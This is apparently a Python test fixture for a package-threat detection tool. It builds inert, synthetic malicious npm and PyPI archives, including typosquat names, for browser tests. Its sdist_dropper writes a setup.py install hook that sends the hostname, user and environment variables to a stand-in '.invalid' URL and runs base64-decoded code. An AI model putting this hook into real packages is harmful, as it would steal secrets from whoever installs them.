"""A queue that looks like a day of real triage, for the browser tests and the screenshots.

Every archive is built here and analysed by the real engine: typosquats with
install hooks that phone home, a campaign of near-identical npm packages, PyPI
sdists overriding ``install``. Synthetic and inert (the hosts are ``.invalid``);
no corpus code.
"""

from __future__ import annotations

import io
import tarfile
from datetime import UTC, datetime, timedelta

from threatfeed.store import Database

from .factory import Sample, add, hook_archive, record_archive

CAMPAIGN = ("chalk-tempalte", "chalk-templat", "chalk-templete", "chalk-tmplate", "chalk-templatr")


def _tar(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def sdist_dropper(name: str, version: str, hook: str) -> bytes:
    """A PyPI sdist whose ``setup.py`` overrides install to send the environment away."""
    module = name.replace("-", "_")
    setup = f'''from setuptools import setup
from setuptools.command.install import install
import base64, os, socket, urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        data = {{"host": socket.gethostname(), "user": os.getlogin(), "env": dict(os.environ)}}
        req = urllib.request.Request("{hook}", data=repr(data).encode())
        urllib.request.urlopen(req)
        exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))


setup(name="{name}", version="{version}", packages=["{module}"],
      cmdclass={{"install": PostInstall}})
'''.encode()
    root = f"{name}-{version}"
    return _tar(
        {
            f"{root}/setup.py": setup,
            f"{root}/PKG-INFO": (
                f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
            ),
            f"{root}/{module}/__init__.py": f"__version__ = '{version}'\n".encode() * 4,
        }
    )


def seed(database: Database) -> dict[str, int]:
    """Records the day's archives; returns package ids by name."""
    ids: dict[str, int] = {}
    day = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    with database.session() as session:
        for number, name in enumerate(CAMPAIGN):
            ids[name] = record_archive(
                session,
                name,
                "4.0.1",
                hook_archive(name, "4.0.1", "cdn-metrics.example.invalid"),
                published_at=day + timedelta(minutes=7 * number),
            )
        for number, (name, version) in enumerate(
            (("reqeusts-toolbelt", "0.10.2"), ("colorsama", "0.4.7"), ("pyyaml-utils", "6.0.3"))
        ):
            ids[name] = record_archive(
                session,
                name,
                version,
                sdist_dropper(name, version, f"https://hooks.example.invalid/{number}"),
                ecosystem="pypi",
                published_at=day + timedelta(hours=2, minutes=number),
            )
    samples = [
        Sample("@types-node/utils", "18.2.0", score=0.74),
        Sample("discord-tokens-grabber", "1.0.4", score=0.91),
        Sample("eslint-config-airbnb-base-x", "15.0.1", score=0.58),
        Sample("lodahs", "4.17.22", score=0.66),
        Sample("node-fetch-npm2", "2.6.8", score=0.52),
        Sample(
            "python-binance-sdk",
            "1.0.19",
            ecosystem="pypi",
            score=0.63,
            indicators={
                "obfuscation_rule": True,
                "suspicious_url_references_rule": ["https://api.example.invalid/keys"],
            },
        ),
    ]
    for sample, package in zip(samples, add(database, *samples), strict=True):
        ids[sample.name] = package
    return ids
